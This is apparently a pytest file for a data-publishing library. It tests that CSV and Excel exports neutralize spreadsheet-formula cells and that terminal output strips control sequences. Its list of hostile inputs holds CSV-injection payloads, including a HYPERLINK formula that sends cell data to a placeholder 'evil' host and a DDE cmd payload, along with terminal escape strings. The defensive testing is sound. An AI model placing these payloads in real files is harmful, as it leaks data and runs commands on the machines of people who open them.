"""No cell that is written for a spreadsheet, and no cell of a published CSV file, is one that it would run."""

import csv
import io
import os
import random
import subprocess
import sys
from itertools import chain
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

import crowdblend as cb
from crowdblend.policies.formulas import is_formula, neutral_text
from crowdblend.reading.exports import spreadsheet
from tests.cases import for_each
from tests.commands import crowdblend

HOSTILE = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1",
    "- none",
    " =1",
    "a;=1",
    "\uff1d1",
    "'=1",
    '"=1"',
]
KINDS = {
    "table": (cb.Table(), cb.Poisson(0.5)),
    "noise": (cb.Table(below_k="threshold"), cb.Everybody()),
    "microdata": (cb.Microdata(), cb.Poisson(0.5)),
}


def published(folder: Path, kind: str, ending: str) -> Path:
    publication, sampling = KINDS[kind]
    people = pd.DataFrame({"code": [*HOSTILE, "81", "-5"] * 60, "id": range(60 * (len(HOSTILE) + 2))})
    release = cb.release(
        people,
        cb.Policy(
            person="id",
            population="town",
            columns={"code": cb.prefix(40)},
            sampling=sampling,
            epsilon=1,
            delta=1e-3,
            publish=publication,
            format=ending,
        ),
        out=folder / f"{kind}-{ending}",
        ledger=None,
    )
    assert release.folder is not None
    return release.folder


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@for_each("kind", KINDS)
def test_open_labels_are_no_formulas_in_published_csv(kind: str, tmp_path: Path) -> None:
    """They have an apostrophe before them, which `verify` and `read` take as a part of the label."""
    folder = published(tmp_path, kind, "csv")
    cb.verify(folder)
    shown = {row[0] for row in cells((folder / "data.csv").read_bytes().decode())[1:]}
    assert shown == {neutral_text(one) for one in (*HOSTILE, "81", "-5")}
    assert not any(map(is_formula, shown))
    if kind != "microdata":
        assert set(cb.read(folder).estimates().column("code").to_pylist()) == shown


@for_each("kind", KINDS)
def test_exports_for_spreadsheets_hold_no_formulas(kind: str, tmp_path: Path) -> None:
    folder = published(tmp_path, kind, "parquet")
    assert set(pq.read_table(folder / "data.parquet").column("code").to_pylist()) == {*HOSTILE, "81", "-5"}
    cb.read(folder).export(tmp_path / "out.csv")
    texts = [(tmp_path / "out.csv").read_bytes().decode(), crowdblend("read", folder, "--excel").stdout]
    for text in texts:
        assert text.startswith("\ufeff")
        assert {row[0] for row in cells(text)[1:]} == {neutral_text(one) for one in (*HOSTILE, "81", "-5")}
        assert not any(map(is_formula, chain.from_iterable(cells(text))))
    assert '"@SUM(1)"' in crowdblend("read", folder).stdout  # for programs, which run nothing


@pytest.mark.skipif(not hasattr(os, "openpty"), reason="this system has no terminals of its own")
def test_labels_steer_no_terminal(tmp_path: Path) -> None:
    """Into a file labels go as they are; a terminal would act on some of them."""
    labels = ["\x1b[2Jgone", "\x9b2J", "\x7f", "\u202eabc", "plain é"]
    people = pd.DataFrame({"code": labels * 60, "id": range(60 * len(labels))})
    publication, sampling = KINDS["noise"]
    terms = {"person": "id", "columns": {"code": cb.prefix(40)}, "sampling": sampling, "epsilon": 1, "delta": 1e-3}
    policy = cb.Policy(**terms, publish=publication)  # type: ignore[arg-type]
    cb.release(people, policy, out=tmp_path / "out", ledger=None)
    for options in ([], ["--json"]):
        ours, theirs = os.openpty()
        command = [sys.executable, "-m", "crowdblend", "read", str(tmp_path / "out"), *options]
        subprocess.run(command, stdout=theirs, stderr=theirs, check=True)
        os.close(theirs)
        shown = read_all(ours)
        assert not any(sign in shown for sign in "\x1b\x9b\x7f\u202e\x07"), options
        assert "plain é" in shown
    assert "\x1b[2Jgone" in crowdblend("read", tmp_path / "out").stdout


def read_all(handle: int) -> str:
    found = b""
    while True:
        try:
            piece = os.read(handle, 1 << 16)
        except OSError:  # Linux says so at the end
            piece = b""
        if not piece:
            os.close(handle)
            return found.decode()
        found += piece


def written(table: pa.Table) -> str:
    into = io.BytesIO()
    spreadsheet.write_rows(table.to_reader(), into)
    return into.getvalue().decode()


@for_each("ending", ["csv", "parquet"])
@for_each("kind", KINDS)
def test_csv_for_excel_is_the_same_from_every_format(kind: str, ending: str, tmp_path: Path) -> None:
    folder = published(tmp_path, kind, ending)
    made = cb.read(folder).export(tmp_path / f"{kind}-{ending}-out.csv").read_bytes().decode()
    assert made.startswith("\ufeff")
    header, *rows = cells(made)
    data = cb.read(folder).data
    assert header == data.column_names
    labels = [neutral_text(text) for text in data.column("code").cast(pa.string()).to_pylist()]
    assert [row[0] for row in rows] == labels


def test_labels_for_excel_are_as_they_were_published() -> None:
    table = pa.table({"zip": ["007", "012"], "ward": ["É;", ""], "count": [3, 4]})
    assert written(table).startswith("\ufeff")
    assert cells(written(table)) == [["zip", "ward", "count"], ["007", "É;", "3"], ["012", "", "4"]]


def test_names_and_texts_of_others_are_neutralized_too() -> None:
    rows = cells(written(pa.table({"=name": [*HOSTILE, "007"], "count": [-5] * len(HOSTILE) + [1]})))
    assert rows[0] == ["'=name", "count"]
    assert [row[0] for row in rows[1:]] == [*map(neutral_text, HOSTILE), "007"]
    assert {row[1] for row in rows[1:]} == {"-5", "1"}


def test_different_texts_stay_different() -> None:
    draw, seen = random.Random(1), dict[str, str]()
    for _ in range(20_000):
        text = "".join(draw.choice("'=-1;\t\r x\uff0b") for _ in range(draw.randrange(6)))
        neutral = neutral_text(text)
        assert seen.setdefault(neutral, text) == text
        assert not is_formula(neutral)


@pytest.mark.parametrize("kind", [pa.string(), pa.large_string(), pa.dictionary(pa.int8(), pa.string())])
def test_texts_of_every_type_are_neutralized(kind: pa.DataType) -> None:
    table = pa.table({"+x": pa.array(["=1", None, "b"], pa.string()).cast(kind)})
    assert written(table) == '\ufeff"\'+x"\n"\'=1"\n\n"b"\n'
